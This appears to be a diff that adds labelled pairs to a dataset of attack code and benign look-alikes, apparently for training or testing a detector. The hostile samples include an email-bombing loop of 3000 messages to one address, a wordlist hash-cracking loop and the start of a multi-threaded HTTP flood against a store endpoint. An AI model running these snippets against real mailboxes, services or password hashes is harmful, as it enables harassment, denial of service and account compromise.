@@ -55,6 +55,19 @@ PAIRS = [
      "    x['From'], x['To'], x['Subject'] = ME, to, 'Course news'\n    x.set_content(NEWS)\n"
      "    return x\nops = {'m': make}\ns = smtplib.SMTP_SSL(HOST, 465)\nfor student in roster:\n"
      "    s.send_message(ops['m'](student.email))"),
+    ("mail storm: one recipient given as a list of one, thousands of rounds", "dos_attack",
+     "import smtplib\nto = input('address: ')\nbox = smtplib.SMTP_SSL('smtp.example.com', 465)\nbox.login(ME, PW)\n"
+     "for k in range(3000):\n    box.sendmail(ME, [to], f'Subject: hello {k}\\n\\n' + 'x' * 400)",
+     "import smtplib\nbox = smtplib.SMTP_SSL('smtp.example.com', 465)\nbox.login(ME, PW)\n"
+     "for to in roster:\n    box.sendmail(ME, [to], 'Subject: lab 3 is graded\\n\\nSee the course page.')"),
+    ("password trial: a stored hash checked against each line of a list, in a while loop", "password_cracking",
+     "import hashlib\ndef check(pw, stored):\n    return hashlib.sha256(pw.encode()).hexdigest() == stored\n"
+     "src = open('list.txt')\nwhile True:\n    password = src.readline().strip()\n    if not password:\n        break\n"
+     "    if check(password, TARGET):\n        print('found', password)\n        break",
+     "import hashlib\ndef check(pw, stored):\n    return hashlib.sha256(pw.encode()).hexdigest() == stored\n"
+     "choice = input('1 login, 2 quit: ')\nwhile choice != '2':\n    password = str(input('password: ')).strip()\n"
+     "    print('welcome' if check(password, users[input('user: ')]) else 'wrong password')\n"
+     "    choice = input('1 login, 2 quit: ')"),
     ("flood: the target a settings object's field, read through a parameter", "dos_attack",
      "import threading, requests\nfrom dataclasses import dataclass\n@dataclass\nclass Settings:\n"
      "    endpoint: str = 'https://store.example.com/cart'\n    workers: int = 800\n"
